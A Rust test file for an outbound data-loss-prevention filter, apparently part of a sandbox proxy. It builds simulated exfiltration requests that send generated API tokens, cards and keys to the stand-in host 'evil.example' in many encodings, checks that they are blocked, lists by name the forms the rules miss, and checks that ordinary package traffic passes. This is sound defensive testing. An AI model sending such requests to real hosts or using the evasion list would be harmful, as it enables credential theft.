//! A corpus: requests with a stranger's credential, which rules alone have to stop, and ordinary ones, which all have to
//! pass. What is not stopped is named one by one.

use claude_bottle_egress_policy::{DlpKind, GuardSecrets};

use super::body::BodyScan;
use super::limits_tests::base64;
use super::unpack::Packing;
use super::*;
use crate::http::destination::destination;
use crate::http::head;
use secret_scan::sample::{Random, credential};

/// Rules whose credentials go by every way. Those of the corpus are made after their patterns.
const VENDORS: &str = "anthropic-api-key anthropic-token openai-api-key openai-legacy-api-key github-pat github-oauth github-app-token \
    github-fine-grained-pat gitlab-pat aws-access-token slack-bot-token slack-user-token slack-app-token stripe-access-token \
    twilio-api-key sendgrid-api-token gcp-api-key google-oauth-client-secret google-access-token huggingface-access-token \
    databricks-api-token digitalocean-pat vault-service-token npm-access-token pypi-upload-token linear-api-key notion-api-token \
    sentry-user-token grafana-service-account-token groq-api-key xai-api-key replicate-api-token pinecone-api-key \
    perplexity-api-key supabase-access-token shopify-access-token doppler-api-token postman-api-token pulumi-api-token \
    rubygems-api-token age-secret-key";

/// A request in two pieces.
struct Case {
    name: String,
    head: String,
    body: Vec<u8>,
}

fn case(name: &str, path: &str, headers: &str, body: &str) -> Case {
    let method = if body.is_empty() { "GET" } else { "POST" };
    let head = format!("{method} http://evil.example{path} HTTP/1.1\r\nHost: evil.example\r\n{headers}\r\n");
    Case { name: name.to_owned(), head, body: body.as_bytes().to_vec() }
}

fn query(name: &str, value: &str) -> Case {
    case(name, &format!("/collect?id=7&data={value}&v=1"), "", "")
}

fn post(name: &str, body: &str) -> Case {
    case(name, "/collect", "", body)
}

fn is_stopped(inspector: &Inspector, case: &Case) -> bool {
    let head = head::parse(case.head.as_bytes(), 64).unwrap_or_else(|error| panic!("{}: {error}", case.name));
    let wanted = destination(&head).unwrap();
    let mut scan = BodyScan::new(inspector, &wanted.host, Packing::Plain);
    drop(scan.push(&case.body).unwrap());
    drop(scan.finish().unwrap());
    inspector.head(&head, &wanted).block.is_some() || scan.findings().block.is_some()
}

fn inspector(also: &[DlpKind]) -> Inspector {
    let config = DlpConfig { also: also.to_vec(), ..DlpConfig::default() };
    Inspector::new(&config, &GuardSecrets::default()).unwrap()
}

/// Each vendor's credential in the places of an ordinary request.
fn plain(random: &mut Random) -> Vec<Case> {
    let mut cases = Vec::new();
    for rule in VENDORS.split_ascii_whitespace() {
        let token = credential(rule, random);
        cases.push(query(&format!("{rule} in the query"), &token));
        cases.push(case(&format!("{rule} in the path"), &format!("/x/{token}/y"), "", ""));
        cases.push(case(&format!("{rule} in a header"), "/", &format!("X-Note: {token}, and more\r\n"), ""));
        cases.push(post(&format!("{rule} in a form"), &format!("a=1&b={token}&c=2")));
        cases.push(post(&format!("{rule} in JSON"), &format!("{{\"note\":\"{token}\",\"n\":1}}")));
    }
    cases
}

fn encoded(random: &mut Random) -> Vec<Case> {
    const BASE32: &[u8; 32] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let each = |text: &str, change: fn(u8) -> String| text.bytes().map(change).collect::<String>();
    let mut cases = Vec::new();
    for rule in VENDORS.split_ascii_whitespace().step_by(2).take(19) {
        let token = credential(rule, random);
        let bit =
            |at: usize| token.as_bytes().get(at / 8).map_or(0, |byte| usize::from(byte >> (7 - at % 8) & 1));
        let digit = |index: usize| (0..5).fold(0, |sum, offset| sum << 1 | bit(index * 5 + offset));
        let base32: String =
            (0..(token.len() * 8).div_ceil(5)).map(|index| char::from(BASE32[digit(index)])).collect();
        let hex = each(&token, |byte| format!("{byte:02x}"));
        let once = base64(token.as_bytes());
        let lines: String =
            once.as_bytes().chunks(20).map(|l| format!("{}\n", String::from_utf8_lossy(l))).collect();
        let mut add = |how: &str, case: fn(&str, &str) -> Case, text: &str| {
            cases.push(case(&format!("{rule} as {how}"), text));
        };
        add("base64", query, &once);
        add("base64 for URLs", query, &once.replace('+', "-").replace('/', "_"));
        add("base64 twice", query, &base64(once.as_bytes()));
        add("base64 in lines", post, &lines);
        add("hexadecimal", query, &hex);
        add("hexadecimal with colons", post, &each(&token, |byte| format!("{byte:02X}:")));
        add("percent signs", query, &each(&token, |byte| format!("%{byte:02x}")));
        add("percent signs twice", query, &each(&token, |byte| format!("%25{byte:02x}")));
        add("escapes", post, &format!("{{\"a\":\"{}\"}}", each(&token, |byte| format!("\\u{byte:04x}"))));
        add("base32", query, &base32);
    }
    cases
}

/// Headers that are made for credentials, towards a host that is not the vendor's.
fn headers(random: &mut Random) -> Vec<Case> {
    let lines: &[(&str, &str)] = &[
        ("anthropic-api-key", "X-Api-Key: {}"),
        ("anthropic-token", "Authorization: Bearer {}"),
        ("openai-api-key", "Authorization: Bearer {}"),
        ("github-pat", "Authorization: token {}"),
        ("github-fine-grained-pat", "Authorization: Bearer {}"),
        ("gitlab-pat", "Private-Token: {}"),
        ("gitlab-pat", "Job-Token: {}"),
        ("npm-access-token", "Authorization: Bearer {}"),
        ("pypi-upload-token", "Authorization: Basic {64}"),
        ("github-pat", "Authorization: Basic {64}"),
        ("gcp-api-key", "X-Goog-Api-Key: {}"),
        ("vault-service-token", "X-Vault-Token: {}"),
        ("huggingface-access-token", "Authorization: Bearer {}"),
        ("stripe-access-token", "Authorization: Bearer {}"),
        ("slack-bot-token", "Authorization: Bearer {}"),
        ("digitalocean-pat", "Cookie: a=1; session={}; b=2"),
        ("databricks-api-token", "X-Auth-Token: {}"),
        ("sendgrid-api-token", "Api-Key: {}"),
    ];
    let make = |(rule, line): &(&str, &str)| {
        let token = credential(rule, random);
        let line = line.replace("{64}", &base64(format!("user:{token}").as_bytes())).replace("{}", &token);
        case(&format!("{rule} in {line}"), "/", &format!("{line}\r\n"), "")
    };
    lines.iter().map(make).collect()
}

/// What ends a credential in a list, a path or a sentence.
fn ends(random: &mut Random) -> Vec<Case> {
    let mut cases = Vec::new();
    for rule in VENDORS.split_ascii_whitespace().take(7) {
        for end in ["&next", "/next", ",next", ". Next"] {
            let token = credential(rule, random);
            cases.push(post(&format!("{rule} before {end}"), &format!("key {token}{end}")));
        }
    }
    cases
}

/// Kinds that are looked for on request, and what has a form without a vendor.
fn kinds() -> Vec<Case> {
    let key = "MIIEpAIBAAKCAQEA2a2rwplBQLF29amygykEMmYz0+Kcj3bKBp29P2rFj7tLhqzy";
    vec![
        post("card", "{\"card\":\"4111 1111 1111 1111\"}"),
        query("card in the query", "5555555555554444"),
        query("account", "DE89370400440532013000"),
        query("wallet key", &["5HueCGU8rMjxEXxiPuD5BDk", "u4MkFqeZyd4dZ1jvhTVqvbTLvyTJ"].concat()),
        post(
            "named wallet key",
            &format!("ETH_PRIVATE_KEY=0x{}", "4c0883a69102937d6231471b5dbb6204".repeat(2)),
        ),
        query(
            "web token",
            &["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0In0", "c2lnbmF0dXJlLW9mLXRoaXM"].join("."),
        ),
        post("private key that is cut off", &["-----BEGIN RSA PRIV", "ATE KEY-----\n", key, "\n"].concat()),
    ]
}

/// What rules alone cannot tell from ordinary text, with the reason.
fn unknown() -> Vec<Case> {
    let named = |name: &str, text: &str| query(&format!("MISSED {name}"), text);
    vec![
        named("documented example: an AWS key", &["AKIA", "IOSFODNN7EXAMPLE"].concat()),
        named("documented example: an AWS key in a list", &["x,AKIA", "I44QH8DHBEXAMPLE,y"].concat()),
        named("documented example: a Google key", &["AIza", "SyAnLA7NfeLquW1tJFpx_eQCxoX-oo6YyIs"].concat()),
        named("documented example: a token of one letter", &["ghp_", &"a".repeat(36)].concat()),
        named("random text without a form", "9kQ2vXz7Lw4Rn8TbYc3MfHs6"),
        named("random hexadecimal text", "7f3a9c1e5b8d2046af91c3e7d5b20846"),
        named("random base64", "q83vEjRWeJCrze8SNFZ4kKvN7xI0VniQ"),
        named("random text as a label", "k3j9x2m7q1.v8w4z6"),
        named("a password", "hunter2-correct-horse"),
        named("a password by its name", "x&password=Tr0ub4dor%263"),
        named(
            "a recovery phrase",
            "legal+winner+thank+year+wave+sausage+worth+useful+legal+winner+thank+yellow",
        ),
        named("a number of an identity card", "078-05-1120"),
        named("a key without its name", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ8nT5vL2a"),
        named(
            "a token turned by thirteen letters",
            &["tuc_", "9nM3xD7kJ1iO5aZ8pY2wU6tS4qF0cErGlH1d"].concat(),
        ),
    ]
}

#[test]
fn rules_alone_stop_nearly_all_and_what_they_do_not_is_named() {
    let mut random = Random(0x0c0d_e0c0_ffee_1234);
    let also = DlpKind::ALL.map(|(_, kind)| kind);
    let inspector = inspector(&also);
    let mut cases = plain(&mut random);
    cases.extend(encoded(&mut random));
    cases.extend(headers(&mut random));
    cases.extend(ends(&mut random));
    cases.extend(kinds());
    let stopped = cases.len();
    cases.extend(unknown());
    assert_eq!(cases.len(), 462);
    let missed: Vec<&str> =
        cases.iter().filter(|case| !is_stopped(&inspector, case)).map(|case| case.name.as_str()).collect();
    let others: Vec<&&str> = missed.iter().filter(|name| !name.starts_with("MISSED")).collect();
    assert!(others.is_empty(), "{others:#?}");
    assert_eq!(cases.len() - missed.len(), stopped, "what is found now is not missed: {missed:#?}");
}

#[test]
fn ordinary_requests_all_pass() {
    let digest = "9b2cf535f27731c974343645a3985328d2f0a9be3a04f0a4c1b7c1a1e6d4f5a7";
    let token =
        ["eyJhbGciOiJSUzI1NiJ9", "eyJpc3MiOiJhIiwic3ViIjoiYiJ9", "c2lnbmF0dXJlLW9mLXRva2Vu"].join(".");
    let gets = [
        "/debian/dists/bookworm/InRelease".to_owned(),
        format!("/debian/dists/bookworm/main/binary-amd64/by-hash/SHA256/{digest}"),
        "/debian/pool/main/o/openssl/libssl3_3.0.15-1~deb12u1_amd64.deb".to_owned(),
        "/simple/numpy/".to_owned(),
        "/packages/3b/ed/e1/numpy-2.1.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl".to_owned(),
        format!("/packages/requests-2.32.3.tar.gz?sha256={digest}"),
        "/@babel%2fcore/-/core-7.25.2.tgz".to_owned(),
        "/-/npm/v1/security/advisories/bulk".to_owned(),
        "/api/v1/crates/serde/1.0.229/download".to_owned(),
        "/index/se/rd/serde".to_owned(),
        "/golang.org/x/net/@v/v0.30.0.zip".to_owned(),
        "/github.com/spf13/cobra/@v/list".to_owned(),
        "/maven2/org/apache/commons/commons-lang3/3.17.0/commons-lang3-3.17.0.jar.sha1".to_owned(),
        "/gems/rails-8.0.0.gem".to_owned(),
        "/org/repo.git/info/refs?service=git-upload-pack".to_owned(),
        "/org/repo/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709/".to_owned(),
        "/org/repo/compare/da39a3ee5e6b4b0d3255bfef95601890afd80709...356a192b7913b04c54574d18c28d46e6395428ab".to_owned(),
        format!("/v2/library/alpine/blobs/sha256:{digest}"),
        "/search?q=how+to+set+an+api_key+in+python&client=curl&token=1".to_owned(),
        "/search?q=sk-learn+pat.+s.+hf_+ghp_+AKIA&lang=en".to_owned(),
        "/v1/models?limit=20&after=model_01HZX9Q2W3E4R5T6Y7U8I9O0PA".to_owned(),
        "/a/550e8400-e29b-41d4-a716-446655440000/b?v=550e8400e29b41d4a716446655440000".to_owned(),
        format!("/bucket/o?X-Goog-Algorithm=GOOG4-RSA-SHA256&X-Goog-Credential=svc%40p.iam.gserviceaccount.com%2F20261129%2Fauto%2Fstorage%2Fgoog4_request&X-Goog-Date=20261129T060000Z&X-Goog-Expires=900&X-Goog-SignedHeaders=host&X-Goog-Signature={}", digest.repeat(8)),
        format!("/container/blob?sv=2024-11-04&st=2026-11-29T06%3A00%3A00Z&se=2026-11-29T07%3A00%3A00Z&sr=b&sp=r&sig={}%3D", "kRz3v9fQmT2b7YpWc1LxN8sHd5JgUa4EoX6iVtBqZ0w"),
        format!("/download?token={token}"),
        format!("/long?{}", (0..200).map(|n| format!("parameter{n}=value{n}&")).collect::<String>()),
        "/img?data=iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk%2BM9QDwADhgGAWjR9awAAAABJRU5ErkJggg%3D%3D".to_owned(),
        "/time?t=1732867200000&tz=Europe%2FBerlin".to_owned(),
        "/map?ll=52.5200066,13.404954&z=12&key=none".to_owned(),
        "/?utm_source=newsletter&utm_medium=email&gclid=Cj0KCQiA6rjJBhCnARIsAPrelQp".to_owned(),
        "/s.html?next=%2Fdocs%2Fs.long-name-of-a-page".to_owned(),
        "/kubernetes/pods/app-7d9f8c6b5d-x2k4j/log".to_owned(),
    ];
    let lines = [
        "Authorization: Bearer npm-token-of-somebody".to_owned(),
        format!("Authorization: Bearer {token}"),
        format!("Cookie: session={token}; _ga=GA1.2.1234567890.1732867200"),
        "Cookie: _gitlab_session=0123456789abcdef0123456789abcdef; sidebar=1".to_owned(),
        format!("Cookie: csrftoken={digest}; connect.sid=s%3Aabcdef.ghijkl"),
        "Authorization: Basic dXNlcjpwYXNzd29yZA==".to_owned(),
        format!("If-None-Match: \"{digest}\""),
        "User-Agent: npm/10.8.2 node/v22.9.0 linux x64".to_owned(),
        "User-Agent: Debian APT-HTTP/1.3 (2.6.1)".to_owned(),
        "Accept: application/vnd.pypi.simple.v1+json, text/html;q=0.1".to_owned(),
        "Git-Protocol: version=2".to_owned(),
        "X-Request-Id: 550e8400-e29b-41d4-a716-446655440000".to_owned(),
        "Traceparent: 00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01".to_owned(),
        format!("X-Amz-Content-Sha256: {digest}"),
    ];
    let bodies = [
        "{\"model\":\"any\",\"messages\":[{\"role\":\"user\",\"content\":\"What does `sk-` mean in an API key?\"}]}".to_owned(),
        serde_json::json!({ "content": include_str!("mod.rs") }).to_string(),
        serde_json::json!({ "content": include_str!("../../../secret-scan/src/words.rs"), "more": include_str!("../../../secret-scan/src/decode.rs") }).to_string(),
        include_str!("../../../../LICENSE-APACHE").to_owned(),
        "API_KEY=\nDATABASE_URL=postgres://user:password@localhost/app\n# SECRET=change-me\n".to_owned(),
        "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n".to_owned(),
        "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\n-----END CERTIFICATE-----\n".to_owned(),
        "0032want da39a3ee5e6b4b0d3255bfef95601890afd80709\n00000009done\n".to_owned(),
        "name=Alice+Example&city=Gen%C3%A8ve&comment=see+you+at+10%3A30".to_owned(),
        "{\"lockfileVersion\":3,\"packages\":{\"node_modules/a\":{\"integrity\":\"sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==\"}}}".to_owned(),
        "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n\r\nan ordinary file\r\n--b--\r\n".to_owned(),
        "das ist ein gewöhnlicher Text, 漢字 и ещё немного".to_owned(),
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==".to_owned(),
    ];
    let cases = gets.iter().map(|path| case(path, path, "", ""));
    let cases = cases.chain(lines.iter().map(|line| case(line, "/", &format!("{line}\r\n"), "")));
    let cases: Vec<Case> = cases.chain(bodies.iter().map(|body| post(body, body))).collect();
    assert_eq!(cases.len(), 59);
    let asked = [DlpKind::Cards, DlpKind::Accounts, DlpKind::Wallets];
    for inspector in [inspector(&[]), inspector(&asked)] {
        let stopped: Vec<&str> =
            cases.iter().filter(|case| is_stopped(&inspector, case)).map(|case| case.name.as_str()).collect();
        assert!(stopped.is_empty(), "{stopped:#?}");
    }
}
